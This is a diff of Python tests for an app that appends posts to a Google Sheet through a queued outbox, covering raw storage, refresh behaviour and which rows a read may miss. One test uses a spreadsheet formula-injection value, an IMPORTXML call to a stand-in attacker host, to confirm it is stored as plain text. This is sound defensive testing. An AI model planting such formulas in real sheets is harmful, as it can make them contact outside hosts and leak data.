@@ -243,9 +243,12 @@ def test_a_logged_post_lands_raw_under_the_header_with_an_id(sheet_app):
     assert [r.value_input_option for r in sheet_app.requests("append")] == ["RAW"]
     assert [r.body["values"] for r in sheet_app.requests("append")] == [[last]]
 
-    at.sidebar.button[0].click().run()  # Refresh now: the read brings the row back
+    # Written, but the shared read is older than the write: the post still shows (once), no longer pending.
+    at.run()
     assert texts(at).count('=IMPORTXML("http://evil.example", "//a")') == 1
     assert "on its way to the Sheet" not in texts(at)
+    at.sidebar.button[0].click().run()  # Refresh now: the read brings the row back, and it is still there once
+    assert texts(at).count('=IMPORTXML("http://evil.example", "//a")') == 1
 
 
 def test_a_link_already_in_the_sheet_is_refused_with_when_and_by_whom(sheet_app):
@@ -281,3 +284,21 @@ def test_a_failing_sheet_keeps_the_post_queued_and_shows_it_as_pending(sheet_app
     progress = app("views/my_progress.py", secrets=SECRETS)
     progress.selectbox(key="progress-name").set_value("Maya Patel").run()
     assert "Queued while Sheets is down" in texts(progress)
+
+
+def test_the_outbox_lists_rows_a_read_may_not_show_yet(sheets_emulator, tmp_path):
+    """Still queued, or confirmed after the read began (with a margin): those join the read; older confirmed rows don't."""
+    from data_sources.outbox import Outbox
+    from tests.emulator.sheets_emulator import FakeClock
+
+    clock = FakeClock(1000.0)
+    box = Outbox(tmp_path / "outbox.sqlite", google_source(sheets_emulator, tmp_path, {"Kudos": [["ID", "To", "Message"]]}), clock=clock)
+    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "old"})
+    box.flush()  # confirmed at 1000
+    clock.advance(100)
+    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "sent after the read"})
+    box.flush()  # confirmed at 1100
+    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "queued"})
+    rows = box.unread(read_at=1090.0, margin=30.0)
+    assert [(r.row["Message"], r.sent is None) for r in rows] == [("sent after the read", False), ("queued", True)]
+    assert [r.row["Message"] for r in box.unread(read_at=1020.0, margin=30.0)] == ["old", "sent after the read", "queued"]
